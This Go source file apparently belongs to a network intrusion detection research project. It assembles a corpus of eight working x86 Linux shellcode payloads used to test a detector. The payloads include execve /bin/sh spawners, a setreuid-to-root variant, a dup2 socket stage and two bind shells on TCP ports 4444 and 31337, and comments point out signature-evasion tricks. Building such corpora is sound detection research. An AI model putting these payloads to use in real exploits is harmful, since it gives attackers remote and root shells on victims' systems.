@@ -1,0 +1,328 @@
+// Package shellcode provides the corpus of Linux shell-spawning
+// payloads used to reproduce Table 1 of the paper: eight distinct
+// remote-exploit payloads, two of which bind the spawned shell to a
+// separate network port. All payloads are assembled from scratch with
+// the x86 encoder, so they are real IA-32 machine code exercising the
+// full disassembler/IR/template pipeline.
+package shellcode
+
+import (
+	"semnids/internal/x86"
+)
+
+// Shellcode is one payload in the corpus.
+type Shellcode struct {
+	Name        string
+	Description string
+	Bytes       []byte
+	// BindsPort marks payloads that bind the shell to a separate
+	// network port (noted separately in Table 1).
+	BindsPort bool
+}
+
+const (
+	binDword = 0x6e69622f // "/bin"
+	shDword  = 0x68732f2f // "//sh"
+)
+
+func mem8(base x86.Reg) x86.Operand {
+	return x86.MemOp(x86.MemRef{Base: base, Size: 1, Scale: 1})
+}
+
+// pushBinSh emits the canonical stack construction of "/bin//sh" and
+// leaves its address in ebx.
+func pushBinSh(a *x86.Asm) {
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushI(shDword).
+		PushI(binDword).
+		MovRR(x86.EBX, x86.ESP)
+}
+
+// execveAL finishes an execve("/bin//sh", ...) with eax set via mov al.
+func execveAL(a *x86.Asm) {
+	a.XorRR(x86.ECX, x86.ECX).
+		XorRR(x86.EDX, x86.EDX).
+		XorRR(x86.EAX, x86.EAX).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
+		IntN(0x80)
+}
+
+// ClassicPush is the textbook 24-byte-style spawner: build "/bin//sh"
+// on the stack, null argv/envp, execve via mov al, 0xb.
+func ClassicPush() Shellcode {
+	a := x86.NewAsm()
+	pushBinSh(a)
+	execveAL(a)
+	return Shellcode{
+		Name:        "classic-push",
+		Description: "stack-built /bin//sh, execve via mov al,0xb",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// PushPop loads the syscall number with push 0xb / pop eax — a common
+// pattern-evasion trick that defeats 'mov al, 0xb' byte signatures.
+func PushPop() Shellcode {
+	a := x86.NewAsm()
+	a.XorRR(x86.ECX, x86.ECX).
+		PushR(x86.ECX).
+		PushI(shDword).
+		PushI(binDword).
+		MovRR(x86.EBX, x86.ESP).
+		I(x86.CDQ).
+		PushI(0xb).
+		PopR(x86.EAX).
+		IntN(0x80)
+	return Shellcode{
+		Name:        "push-pop",
+		Description: "syscall number via push/pop, edx zeroed with cdq",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// JmpCallPop carries "/bin/sh" as literal data and recovers its
+// address with the classic jmp/call/pop idiom.
+func JmpCallPop() Shellcode {
+	a := x86.NewAsm()
+	a.JmpShort("data").
+		Label("code").
+		PopR(x86.EBX).
+		XorRR(x86.EAX, x86.EAX).
+		I(x86.MOV, x86.MemOp(x86.MemRef{Base: x86.EBX, Disp: 7, Size: 1, Scale: 1}), x86.RegOp(x86.AL)).
+		XorRR(x86.ECX, x86.ECX).
+		I(x86.CDQ).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
+		IntN(0x80).
+		Label("data").
+		Call("code").
+		Raw([]byte("/bin/shX")...)
+	return Shellcode{
+		Name:        "jmp-call-pop",
+		Description: "literal /bin/sh string addressed via jmp/call/pop",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// SetuidExec drops privileges back to root with setreuid(0,0) before
+// spawning, as many 2000s-era remote exploits did.
+func SetuidExec() Shellcode {
+	a := x86.NewAsm()
+	a.XorRR(x86.EAX, x86.EAX).
+		XorRR(x86.EBX, x86.EBX).
+		XorRR(x86.ECX, x86.ECX).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x46)). // setreuid
+		IntN(0x80)
+	pushBinSh(a)
+	execveAL(a)
+	return Shellcode{
+		Name:        "setuid-exec",
+		Description: "setreuid(0,0) then execve /bin//sh",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// StackArgv builds a proper argv array on the stack instead of passing
+// NULL, exercising a different execve call shape.
+func StackArgv() Shellcode {
+	a := x86.NewAsm()
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushI(shDword).
+		PushI(binDword).
+		MovRR(x86.EBX, x86.ESP).
+		PushR(x86.EAX). // argv[1] = NULL
+		PushR(x86.EBX). // argv[0] = "/bin//sh"
+		MovRR(x86.ECX, x86.ESP).
+		I(x86.CDQ).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
+		IntN(0x80)
+	return Shellcode{
+		Name:        "stack-argv",
+		Description: "argv array built on the stack, execve /bin//sh",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// Dup2Shell duplicates an inherited socket descriptor onto
+// stdin/stdout/stderr before spawning — the post-connection stage of
+// connect-back payloads.
+func Dup2Shell() Shellcode {
+	a := x86.NewAsm()
+	a.XorRR(x86.ECX, x86.ECX).
+		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
+		Label("dup").
+		XorRR(x86.EAX, x86.EAX).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x3f)). // dup2
+		IntN(0x80).
+		DecR(x86.ECX).
+		JccShort(x86.CondNS, "dup")
+	pushBinSh(a)
+	execveAL(a)
+	return Shellcode{
+		Name:        "dup2-shell",
+		Description: "dup2 fd 0..2 loop, then execve /bin//sh",
+		Bytes:       a.MustBytes(),
+	}
+}
+
+// socketcall emits int 0x80 with eax=0x66 and ebx=call; ecx must
+// already point at the argument array.
+func socketcall(a *x86.Asm, call int64) {
+	a.XorRR(x86.EAX, x86.EAX).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x66)).
+		XorRR(x86.EBX, x86.EBX).
+		I(x86.MOV, x86.RegOp(x86.BL), x86.ImmOp(call)).
+		IntN(0x80)
+}
+
+// BindShell4444 opens a listening socket on TCP/4444 and spawns the
+// shell on the accepted connection: socket, bind, listen, accept,
+// dup2, execve.
+func BindShell4444() Shellcode {
+	a := x86.NewAsm()
+	// socket(AF_INET, SOCK_STREAM, 0)
+	a.XorRR(x86.ECX, x86.ECX).
+		PushR(x86.ECX).
+		PushI(1).
+		PushI(2).
+		MovRR(x86.ECX, x86.ESP)
+	socketcall(a, 1) // SYS_SOCKET
+	a.MovRR(x86.ESI, x86.EAX)
+	// bind(s, {AF_INET, 4444, INADDR_ANY}, 16)
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.EAX).
+		PushI(0x5c110002). // port 4444 (0x115c) big-endian, AF_INET
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x10).
+		PushR(x86.ECX).
+		PushR(x86.ESI).
+		MovRR(x86.ECX, x86.ESP)
+	socketcall(a, 2) // SYS_BIND
+	// listen(s, 1)
+	a.PushI(1).
+		PushR(x86.ESI).
+		MovRR(x86.ECX, x86.ESP)
+	socketcall(a, 4) // SYS_LISTEN
+	// accept(s, 0, 0)
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.ESI).
+		MovRR(x86.ECX, x86.ESP)
+	socketcall(a, 5) // SYS_ACCEPT
+	a.MovRR(x86.EBX, x86.EAX)
+	// dup2 loop over the accepted fd
+	a.XorRR(x86.ECX, x86.ECX).
+		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
+		Label("dup").
+		XorRR(x86.EAX, x86.EAX).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x3f)).
+		IntN(0x80).
+		DecR(x86.ECX).
+		JccShort(x86.CondNS, "dup")
+	pushBinSh(a)
+	execveAL(a)
+	return Shellcode{
+		Name:        "bind-shell-4444",
+		Description: "bind shell on TCP/4444: socket/bind/listen/accept/dup2/execve",
+		Bytes:       a.MustBytes(),
+		BindsPort:   true,
+	}
+}
+
+// BindShell31337 is a second, differently constructed port-binding
+// payload: push/pop syscall loading, a different port, and the
+// jmp/call/pop string idiom for /bin/sh.
+func BindShell31337() Shellcode {
+	a := x86.NewAsm()
+	// socket(2,1,0)
+	a.XorRR(x86.EDX, x86.EDX).
+		PushR(x86.EDX).
+		PushI(1).
+		PushI(2).
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x66).
+		PopR(x86.EAX).
+		PushI(1).
+		PopR(x86.EBX).
+		IntN(0x80).
+		MovRR(x86.EDI, x86.EAX)
+	// bind(s, {AF_INET, 31337}, 16); 31337 = 0x7a69
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.EAX).
+		PushI(0x697a0002).
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x10).
+		PushR(x86.ECX).
+		PushR(x86.EDI).
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x66).
+		PopR(x86.EAX).
+		PushI(2).
+		PopR(x86.EBX).
+		IntN(0x80)
+	// listen(s, 5)
+	a.PushI(5).
+		PushR(x86.EDI).
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x66).
+		PopR(x86.EAX).
+		PushI(4).
+		PopR(x86.EBX).
+		IntN(0x80)
+	// accept(s, 0, 0)
+	a.XorRR(x86.EAX, x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.EAX).
+		PushR(x86.EDI).
+		MovRR(x86.ECX, x86.ESP).
+		PushI(0x66).
+		PopR(x86.EAX).
+		PushI(5).
+		PopR(x86.EBX).
+		IntN(0x80).
+		MovRR(x86.EBX, x86.EAX)
+	// dup2 + execve with literal string
+	a.XorRR(x86.ECX, x86.ECX).
+		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
+		Label("dup").
+		PushI(0x3f).
+		PopR(x86.EAX).
+		IntN(0x80).
+		DecR(x86.ECX).
+		JccShort(x86.CondNS, "dup").
+		JmpShort("data").
+		Label("spawn").
+		PopR(x86.EBX).
+		XorRR(x86.EAX, x86.EAX).
+		XorRR(x86.ECX, x86.ECX).
+		I(x86.CDQ).
+		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
+		IntN(0x80).
+		Label("data").
+		Call("spawn").
+		Raw([]byte("/bin/sh\x00")...)
+	return Shellcode{
+		Name:        "bind-shell-31337",
+		Description: "bind shell on TCP/31337: push/pop socketcalls, jmp/call/pop string",
+		Bytes:       a.MustBytes(),
+		BindsPort:   true,
+	}
+}
+
+// Corpus returns the eight payloads of Table 1 in a stable order.
+func Corpus() []Shellcode {
+	return []Shellcode{
+		ClassicPush(),
+		PushPop(),
+		JmpCallPop(),
+		SetuidExec(),
+		StackArgv(),
+		Dup2Shell(),
+		BindShell4444(),
+		BindShell31337(),
+	}
+}
